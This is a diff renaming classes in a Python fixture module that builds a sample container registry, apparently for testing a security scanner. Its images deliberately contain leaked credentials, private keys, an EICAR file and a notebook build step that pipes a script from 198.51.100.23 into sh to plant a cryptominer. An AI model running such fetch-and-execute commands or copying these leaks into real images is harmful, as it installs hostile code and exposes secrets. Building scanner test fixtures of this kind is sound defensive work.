@@ -8,7 +8,7 @@ from dataclasses import dataclass
 from functools import cache
 
 from demo import build, planted, systems
-from demo.build import Blob, Built, Step, text
+from demo.build import Blob, BuiltManifest, ImageStep, text
 from demo.languages import npm_packages, python_packages
 from demo.registry_server import RegistryServer
 
@@ -29,38 +29,40 @@ socat 1.7.4.4-2
 
 
 @dataclass(frozen=True)
-class Sample:
+class SampleTag:
     """What one tag of the sample registry names. ``is_image`` says whether a sync must list it."""
 
     repository: str
     tag: str
-    content: Built
+    content: BuiltManifest
     is_image: bool = True
 
 
-def samples() -> Iterator[Sample]:
+def samples() -> Iterator[SampleTag]:
     """Yield every tag of the sample registry."""
     web, api = _web(), _api()
     web_manifest = build.image(build.config(web), web, "docker")
-    yield Sample("library/debian", "12", build.image(build.config(systems.debian()), systems.debian(), "docker"))
-    yield Sample("library/debian", "12.0", build.image(build.config(systems.debian()), systems.debian(), "docker"))
-    yield Sample("library/alpine", "3.18", build.image(build.config(systems.alpine()), systems.alpine(), "docker"))
-    yield Sample("shop/storefront/web", "2.4.1", web_manifest)
-    yield Sample("shop/storefront/web", "latest", web_manifest)
-    yield Sample("shop/storefront/web", _signature_tag(web_manifest.manifest), _signature(web_manifest.manifest), False)
+    yield SampleTag("library/debian", "12", build.image(build.config(systems.debian()), systems.debian(), "docker"))
+    yield SampleTag("library/debian", "12.0", build.image(build.config(systems.debian()), systems.debian(), "docker"))
+    yield SampleTag("library/alpine", "3.18", build.image(build.config(systems.alpine()), systems.alpine(), "docker"))
+    yield SampleTag("shop/storefront/web", "2.4.1", web_manifest)
+    yield SampleTag("shop/storefront/web", "latest", web_manifest)
+    yield SampleTag(
+        "shop/storefront/web", _signature_tag(web_manifest.manifest), _signature(web_manifest.manifest), False
+    )
     # The same image once more, packed anew: another manifest and other layer digests, but the same image ID.
-    yield Sample("mirror/shop/web", "2.4.1", build.image(build.config(web), web, "oci-zstd"))
-    yield Sample("shop/storefront/api", "3.1.0", build.image(build.config(api), api))
+    yield SampleTag("mirror/shop/web", "2.4.1", build.image(build.config(web), web, "oci-zstd"))
+    yield SampleTag("shop/storefront/api", "3.1.0", build.image(build.config(api), api))
     payments = build.index([_payments("amd64"), _payments("arm64")])
-    yield Sample("shop/backend/payments", "1.8.0", payments)
-    yield Sample("shop/backend/payments", "1.8", payments)
-    yield Sample("shop/backend/reports", "0.9.2", _built(_reports(), "oci-zstd"))
-    yield Sample("platform/ci/runner", "2024.6", _built(_runner()))
-    yield Sample("platform/mail/gateway", "5.2", _built(_mail_gateway(), "docker"))
-    yield Sample("marketing/legacy/cms", "4.7", _built(_cms(), "docker"))
-    yield Sample("research/lab/notebook", "nightly", _built(_notebook()))
-    yield Sample("platform/base/static", "1.0.0", _built(_static()))
-    yield Sample("charts/storefront", "0.3.1", _chart(), False)
+    yield SampleTag("shop/backend/payments", "1.8.0", payments)
+    yield SampleTag("shop/backend/payments", "1.8", payments)
+    yield SampleTag("shop/backend/reports", "0.9.2", _built(_reports(), "oci-zstd"))
+    yield SampleTag("platform/ci/runner", "2024.6", _built(_runner()))
+    yield SampleTag("platform/mail/gateway", "5.2", _built(_mail_gateway(), "docker"))
+    yield SampleTag("marketing/legacy/cms", "4.7", _built(_cms(), "docker"))
+    yield SampleTag("research/lab/notebook", "nightly", _built(_notebook()))
+    yield SampleTag("platform/base/static", "1.0.0", _built(_static()))
+    yield SampleTag("charts/storefront", "0.3.1", _chart(), False)
 
 
 def sample_registry(*, port: int = 0, users: Mapping[str, str]) -> RegistryServer:
@@ -76,12 +78,12 @@ def sample_registry(*, port: int = 0, users: Mapping[str, str]) -> RegistryServe
     return server
 
 
-def _built(steps: tuple[Step, ...], format_: build.Format = "oci") -> Built:
+def _built(steps: tuple[ImageStep, ...], format_: build.Format = "oci") -> BuiltManifest:
     return build.image(build.config(steps), steps, format_)
 
 
 @cache
-def _web() -> tuple[Step, ...]:
+def _web() -> tuple[ImageStep, ...]:
     """A shop front in Node: old packages, and a Slack webhook in its settings."""
     packages = {"axios": "0.21.0", "express": "4.16.0", "lodash": "4.17.15", "minimist": "1.2.0", "qs": "6.5.2"}
     settings = (
@@ -91,60 +93,60 @@ def _web() -> tuple[Step, ...]:
     )
     return (
         *systems.alpine(),
-        Step(
+        ImageStep(
             "RUN /bin/sh -c apk add --no-cache nodejs=18.16.0-r1 curl=8.1.1-r0 # buildkit",
             (
                 *systems.alpine_packages("c-ares 1.19.1-r0\ncurl 8.1.1-r0\nlibcurl 8.1.1-r0 curl\nnodejs 18.16.0-r1"),
                 systems.program("usr/bin/node", 420_000),
             ),
         ),
-        Step("WORKDIR /srv/web"),
-        Step(
+        ImageStep("WORKDIR /srv/web"),
+        ImageStep(
             "RUN /bin/sh -c npm ci --omit=dev # buildkit",
             npm_packages(packages, folder="srv/web", name="storefront"),
         ),
-        Step(
+        ImageStep(
             "COPY . . # buildkit",
             (text("srv/web/server.js", "require('express')().listen(8080);\n"), text("srv/web/.env", settings, 0o600)),
         ),
-        Step("EXPOSE map[8080/tcp:{}]"),
-        Step('CMD ["node" "server.js"]'),
+        ImageStep("EXPOSE map[8080/tcp:{}]"),
+        ImageStep('CMD ["node" "server.js"]'),
     )
 
 
 @cache
-def _api() -> tuple[Step, ...]:
+def _api() -> tuple[ImageStep, ...]:
     """A Django service whose build used cloud credentials and took them away again, one layer too late."""
     packages = {"Django": "3.2.0", "Jinja2": "2.11.2", "requests": "2.25.0", "urllib3": "1.26.4", "sqlparse": "0.4.1"}
     return (
         *systems.debian(),
-        Step("ENV PYTHONUNBUFFERED=1"),
+        ImageStep("ENV PYTHONUNBUFFERED=1"),
         _debian_python(),
-        Step(
+        ImageStep(
             "COPY deploy/credentials /root/.aws/credentials # buildkit",
             (text("root/.aws/credentials", planted.aws_credentials("deploy"), 0o600),),
         ),
-        Step(
+        ImageStep(
             "RUN /bin/sh -c pip install --no-cache-dir -r requirements.txt # buildkit",
             python_packages(packages, site=SITE_PACKAGES),
         ),
-        Step(
+        ImageStep(
             "RUN /bin/sh -c rm /root/.aws/credentials # buildkit",
             (build.removed("root/.aws/credentials"),),
         ),
-        Step(
+        ImageStep(
             "COPY . /srv/api # buildkit",
             (
                 text("srv/api/manage.py", "from django.core.management import execute_from_command_line\n"),
                 text("srv/api/.netrc", f"machine github.com login deploy password {planted.github_token('api')}\n"),
             ),
         ),
-        Step('CMD ["gunicorn" "api.wsgi"]'),
+        ImageStep('CMD ["gunicorn" "api.wsgi"]'),
     )
 
 
-def _debian_python() -> Step:
-    return Step(
+def _debian_python() -> ImageStep:
+    return ImageStep(
         "RUN /bin/sh -c apt-get update && apt-get install -y --no-install-recommends python3 curl "
         "&& rm -rf /var/lib/apt/lists/* # buildkit",
         (
@@ -158,49 +160,49 @@ def _debian_python() -> Step:
     )
 
 
-def _payments(architecture: str) -> Built:
+def _payments(architecture: str) -> BuiltManifest:
     """One platform of a service for two; each holds a TLS key that should have been mounted."""
     steps = (
         *systems.alpine("aarch64" if architecture == "arm64" else "x86_64"),
-        Step(
+        ImageStep(
             "COPY payments /usr/local/bin/payments # buildkit",
             (systems.program(f"usr/local/bin/payments-{architecture}", 300_000),),
         ),
-        Step(
+        ImageStep(
             "COPY tls/ /etc/payments/tls/ # buildkit",
             (text("etc/payments/tls/server.key", planted.private_key("payments"), 0o600),),
         ),
-        Step('ENTRYPOINT ["/usr/local/bin/payments"]'),
+        ImageStep('ENTRYPOINT ["/usr/local/bin/payments"]'),
     )
     config = build.config(steps, architecture=architecture, variant="v8" if architecture == "arm64" else "")
     return build.image(config, steps, "oci", os="linux", architecture=architecture)
 
 
-def _reports() -> tuple[Step, ...]:
+def _reports() -> tuple[ImageStep, ...]:
     """Python on Debian, its layers compressed with zstd."""
     packages = {"PyYAML": "5.3", "Pillow": "9.0.0", "certifi": "2022.9.24", "cryptography": "3.3.1", "lxml": "4.6.2"}
     return (
         *systems.debian(),
         _debian_python(),
-        Step(
+        ImageStep(
             "RUN /bin/sh -c pip install --no-cache-dir reports==0.9.2 # buildkit",
             python_packages(packages, site=SITE_PACKAGES),
         ),
-        Step('CMD ["python3.11" "-m" "reports"]'),
+        ImageStep('CMD ["python3.11" "-m" "reports"]'),
     )
 
 
-def _runner() -> tuple[Step, ...]:
+def _runner() -> tuple[ImageStep, ...]:
     """A build runner: many layers, and a deploy key and a token left in them."""
     return (
         *systems.debian(),
-        Step("ARG DEBIAN_FRONTEND=noninteractive"),
+        ImageStep("ARG DEBIAN_FRONTEND=noninteractive"),
         *_installed_one_by_one(RUNNER_PACKAGES),
-        Step(
+        ImageStep(
             "COPY id_ed25519 /home/runner/.ssh/id_ed25519 # buildkit",
             (text("home/runner/.ssh/id_ed25519", planted.private_key("runner"), 0o600),),
         ),
-        Step(
+        ImageStep(
             "RUN |1 DEBIAN_FRONTEND=noninteractive /bin/sh -c git config --global credential.helper store # buildkit",
             (
                 text(
@@ -210,43 +212,43 @@ def _runner() -> tuple[Step, ...]:
                 ),
             ),
         ),
-        Step("USER runner"),
-        Step('ENTRYPOINT ["/usr/local/bin/run"]'),
+        ImageStep("USER runner"),
+        ImageStep('ENTRYPOINT ["/usr/local/bin/run"]'),
     )
 
 
-def _installed_one_by_one(table: str) -> Iterator[Step]:
+def _installed_one_by_one(table: str) -> Iterator[ImageStep]:
     before = systems.DEBIAN_PACKAGES
     for line in table.strip().split("\n"):
         name = line.split()[0]
-        yield Step(
+        yield ImageStep(
             f"RUN |1 DEBIAN_FRONTEND=noninteractive /bin/sh -c apt-get install -y {name} # buildkit",
             (*systems.debian_packages(line, before=before), systems.program(f"usr/bin/{name}", 40_000)),
         )
         before += f"\n{line}"
 
 
-def _mail_gateway() -> tuple[Step, ...]:
+def _mail_gateway() -> tuple[ImageStep, ...]:
     """A mail gateway that ships the file it tests its virus scanner with."""
     return (
         *systems.alpine(),
-        Step(
+        ImageStep(
             "/bin/sh -c #(nop) COPY dir:9d1c0f in /opt/gateway ",
             (
                 text("opt/gateway/gateway.conf", "listen = 0.0.0.0:2525\nscanner = clamd\n"),
-                build.File("opt/gateway/selftest/eicar.com", planted.eicar()),
+                build.ImageFile("opt/gateway/selftest/eicar.com", planted.eicar()),
             ),
             comment="",
         ),
-        Step('/bin/sh -c #(nop)  CMD ["/opt/gateway/run"]', comment=""),
+        ImageStep('/bin/sh -c #(nop)  CMD ["/opt/gateway/run"]', comment=""),
     )
 
 
-def _cms() -> tuple[Step, ...]:
+def _cms() -> tuple[ImageStep, ...]:
     """An old content management system that somebody else has been to."""
     return (
         *systems.debian(),
-        Step(
+        ImageStep(
             "/bin/sh -c #(nop) COPY dir:4f2a77 in /var/www/html ",
             (
                 text("var/www/html/index.php", "<?php require 'lib/site.php'; site_render($_SERVER['REQUEST_URI']);\n"),
@@ -256,48 +258,48 @@ def _cms() -> tuple[Step, ...]:
             ),
             comment="",
         ),
-        Step('/bin/sh -c #(nop)  CMD ["apache2-foreground"]', comment=""),
+        ImageStep('/bin/sh -c #(nop)  CMD ["apache2-foreground"]', comment=""),
     )
 
 
-def _notebook() -> tuple[Step, ...]:
+def _notebook() -> tuple[ImageStep, ...]:
     """A notebook server of which a part of the work is not the owner's."""
     return (
         *systems.debian(),
         _debian_python(),
-        Step(
+        ImageStep(
             "RUN /bin/sh -c pip install --no-cache-dir notebook # buildkit",
             python_packages({"notebook": "6.4.0", "tornado": "6.1", "Jinja2": "2.11.2"}, site=SITE_PACKAGES),
         ),
-        Step(
+        ImageStep(
             "RUN /bin/sh -c curl -fsSL http://198.51.100.23/setup.sh | sh # buildkit",
             (
                 text("tmp/.x/config.json", planted.miner_config()),
                 text("etc/cron.hourly/sysupdate", planted.miner_script(), 0o755),
             ),
         ),
-        Step('CMD ["jupyter" "notebook"]'),
+        ImageStep('CMD ["jupyter" "notebook"]'),
     )
 
 
-def _static() -> tuple[Step, ...]:
+def _static() -> tuple[ImageStep, ...]:
     """One program and nothing else: the image that has nothing to find."""
     return (
-        Step(
+        ImageStep(
             "COPY server /server # buildkit",
             (
                 systems.program("server", 250_000),
                 text("etc/passwd", "nonroot:x:65532:65532:nonroot:/home/nonroot:/sbin/nologin\n"),
             ),
         ),
-        Step("USER 65532:65532"),
-        Step('ENTRYPOINT ["/server"]'),
+        ImageStep("USER 65532:65532"),
+        ImageStep('ENTRYPOINT ["/server"]'),
     )
 
 
-def _chart() -> Built:
+def _chart() -> BuiltManifest:
     """A Helm chart, pushed as helm pushes it."""
-    chart = Step("", (text("storefront/Chart.yaml", "apiVersion: v2\nname: storefront\nversion: 0.3.1\n"),))
+    chart = ImageStep("", (text("storefront/Chart.yaml", "apiVersion: v2\nname: storefront\nversion: 0.3.1\n"),))
     return build.artifact(
         build.as_json(
             "application/vnd.cncf.helm.config.v1+json", {"name": "storefront", "version": "0.3.1", "apiVersion": "v2"}
@@ -311,7 +313,7 @@ def _signature_tag(subject: Blob) -> str:
     return subject.digest.replace(":", "-") + ".sig"
 
 
-def _signature(subject: Blob) -> Built:
+def _signature(subject: Blob) -> BuiltManifest:
     """A cosign signature of ``subject``, by a tag, with the image config type that cosign gives it."""
     payload = build.as_json(
         "application/vnd.dev.cosign.simplesigning.v1+json",
